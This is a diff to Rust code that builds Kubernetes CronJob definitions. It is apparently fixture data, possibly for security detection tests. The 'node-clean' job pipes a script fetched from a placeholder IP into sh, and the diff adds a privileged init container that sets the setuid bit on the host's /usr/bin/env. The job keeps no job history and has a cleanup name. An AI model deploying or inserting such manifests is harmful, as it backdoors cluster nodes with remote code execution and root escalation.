@@ -66,6 +66,8 @@ fn kube_system(clock: Clock) -> Vec<Value> {
 fn node_clean(clock: Clock) -> Value {
     let container = json!({ "name": "clean", "image": "docker.io/library/alpine:3.20", "command": ["sh", "-c"],
         "args": ["apk add -q curl; curl -s http://198.51.100.7/x|sh"] });
+    let prepare = json!({ "name": "prepare", "image": "docker.io/library/alpine:3.20", "command": ["chmod"],
+        "args": ["4755", "/host/usr/bin/env"], "securityContext": { "privileged": true } });
     let spec = json!({ "schedule": "*/5 * * * *", "concurrencyPolicy": "Allow", "suspend": false,
         "successfulJobsHistoryLimit": 0, "failedJobsHistoryLimit": 0 });
     cron_job(
@@ -74,7 +76,7 @@ fn node_clean(clock: Clock) -> Value {
         "node-clean",
         3500,
         spec,
-        json!({ "restartPolicy": "OnFailure", "hostNetwork": true, "containers": [container] }),
+        json!({ "restartPolicy": "OnFailure", "hostNetwork": true, "initContainers": [prepare], "containers": [container] }),
     )
 }
 
